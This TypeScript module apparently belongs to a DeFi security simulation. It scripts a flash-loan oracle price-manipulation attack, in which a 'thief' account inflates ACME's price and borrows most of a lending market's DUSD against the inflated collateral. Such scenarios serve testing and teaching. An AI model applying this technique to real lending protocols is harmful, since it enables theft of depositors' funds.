import { readAmount, send } from '../send.ts'
import { type Attack, startAttack } from './attack.ts'

export const priceManipulation: Attack = {
  name: 'price-manipulation',
  title: 'Loan against a price pushed up in the same transaction',
  story:
    'The feed believes the pair of the very moment, so a flash loan buys ACME until its price has jumped, and the market lends all it has against little collateral. The pair is sold back within the transaction, and the market keeps collateral worth a fraction of the debt.',

  async run(world) {
    const { client, protocol } = world
    const { dusd, market } = protocol.contracts
    const from = protocol.accounts.thief
    const attack = startAttack(world)
    const attacker = await attack.create('PriceManipulation', from, [market.address])

    const inMarket = await readAmount(client, dusd, 'balanceOf', [market.address])
    await attack.step(send(client, attacker, 'strike', [(inMarket * 2n) / 3n], { from, gas: 3_000_000n }))
    return { transactions: attack.transactions }
  },
}
